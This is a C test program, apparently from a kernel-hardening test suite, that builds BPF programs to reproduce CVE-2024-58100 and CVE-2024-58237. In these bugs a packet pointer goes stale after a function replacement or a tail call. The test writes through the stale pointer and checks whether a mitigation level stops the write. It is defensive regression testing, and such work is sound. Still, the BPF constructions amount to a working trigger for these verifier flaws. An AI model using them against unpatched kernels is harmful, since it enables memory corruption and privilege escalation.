// SPDX-License-Identifier: GPL-2.0
/* moat-test: kernel=test levels=2 cpus=4 keys=13,0 timeout=120 */
/*
 * CVE-2024-58100, CVE-2024-58237: pointers to a packet that was given away by a program in the
 * place of a function, or by one that a function has gone on in by a tail call.
 *
 * No 6.1.y has a fix: the verifier does not see that the packet is another one when the
 * function is done, as with the function itself (test_bugs, CVE-2024-58098). What is sent is a
 * clone, which keeps the memory. At level 0 it is changed through the old pointer; isolated,
 * that leads to the program's own copy, which becomes the packet that it still has.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include "attack.h"
#include "ext.h"
#include "packets.h"

#define FRAME 64
#define AT 32

/* R8 = data; R6: the context */
static void data(void)
{
	E(LDX(BPF_W, R8, R6, offsetof(struct __sk_buff, data)),
	  LDX(BPF_W, R3, R6, offsetof(struct __sk_buff, data_end)),
	  MOV_REG(R2, R8), ALU64_IMM(BPF_ADD, R2, FRAME), JMP_REG(BPF_JLE, R2, R3, 2),
	  MOV_IMM(R0, sched_cls.safe), EXIT());
}

/* Writes by the pointer that it had before it calls @f, to code of which @emit comes next. */
static void begin_target(enum function f)
{
	function(MAIN);
	E(MOV_REG(R6, R1));
	data();
	E(MOV_REG(R1, R6));
	call(f);
	E(LD_IMM64(R4, MARK), STX(BPF_DW, R8, R4, AT), MOV_IMM(R0, sched_cls.pass), EXIT());
	function(f);
}

static void sends(void)
{
	E(MOV_IMM(R2, if_nametoindex("lo")), MOV_IMM(R3, 0), CALL(clone_redirect), EXIT());
}

static void run(int fd, const char *cve, const char *what)
{
	s64 violations = moat_counter("violations");
	u8 in[FRAME], out[FRAME], frame[FRAME] = {};
	struct run run = {
		.data_in = in, .data_in_size = FRAME, .data_out = out, .data_out_size = FRAME,
	};
	u64 was, own, sent = 0;
	int s = frame_socket("lo");

	frame_fill(in, FRAME, 1);
	memcpy(&was, in + AT, 8);
	if (prog_run(fd, &run))
		bail("run: %s", strerror(errno));
	memcpy(&own, out + AT, 8);
	if (frame_receive(s, frame, FRAME) == FRAME)
		memcpy(&sent, frame + AT, 8);
	close(s);
	if (!ok(run.retval == sched_cls.pass && moat_counter("violations") == violations &&
		sent == (level ? was : MARK) && own == (level ? MARK : was),
		"%d: %s, %s: what was sent is %schanged", level, cve, what, level ? "not " : ""))
		diag("returns %u; was %lx: sent %lx, own %lx", run.retval, was, sent, own);
}

static void replaced(void)
{
	int target, fd, link;

	begin_target(ALONE);
	E(MOV_IMM(R0, 0), EXIT());
	target = build("stale", level);
	function(ALONE);
	sends();
	fd = build_for(BPF_PROG_TYPE_EXT, 0, "sender", level, target, ALONE);
	link = fd < 0 ? -1 : attach(fd, target, ALONE);
	if (link < 0)
		bail("sender: %s\n%s", strerror(errno), prog_log);
	run(target, "CVE-2024-58100", "sent by what replaces a function");
	close(link);
	close(fd);
	close(target);
}

static void gone_on(void)
{
	int array = map_create(BPF_MAP_TYPE_PROG_ARRAY, 4, 4, 1), target, fd;
	u32 zero = 0;

	function(MAIN);
	sends();
	fd = build("sender", level);
	begin_target(ALONE);
	E(LD_MAP_FD(R2, array), MOV_IMM(R3, 0), CALL(tail_call), MOV_IMM(R0, 0), EXIT());
	target = build("stale", level);
	if (map_update(array, &zero, &fd))
		bail("array: %s", strerror(errno));
	run(target, "CVE-2024-58237", "sent behind a function's tail call");
	close(target);
	close(fd);
	close(array);
}

int main(void)
{
	int levels = moat_present() ? 2 : 1;

	describe(&sched_cls);
	loot = array_of(128);
	while (levels--) {
		level = levels ? 2 : 0;
		moat_set_level(level);
		replaced();
		gone_on();
	}
	return finish();
}
